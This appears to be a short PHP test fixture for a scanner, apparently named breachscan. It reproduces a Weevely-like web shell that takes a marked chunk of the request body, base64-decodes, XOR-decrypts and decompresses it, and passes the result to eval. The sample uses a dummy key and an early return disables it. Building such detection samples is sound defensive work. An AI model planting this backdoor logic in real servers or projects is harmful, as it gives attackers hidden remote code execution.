<?php
// synthetic test sample for breachscan: Weevely-like agent - marked chunk taken from the raw
// body, XOR-decrypted, decompressed and evaluated. Dummy key; disabled.
return;
$k = "00000000"; $kh = "aaaa"; $kf = "bbbb";
function x($t, $k) { $o = ""; for ($i = 0; $i < strlen($t); $i++) { $o .= $t[$i] ^ $k[$i % strlen($k)]; } return $o; }
if (@preg_match("/$kh(.+)$kf/", @file_get_contents("php://input"), $m) == 1) {
    @eval(@gzuncompress(@x(@base64_decode($m[1]), $k)));
}
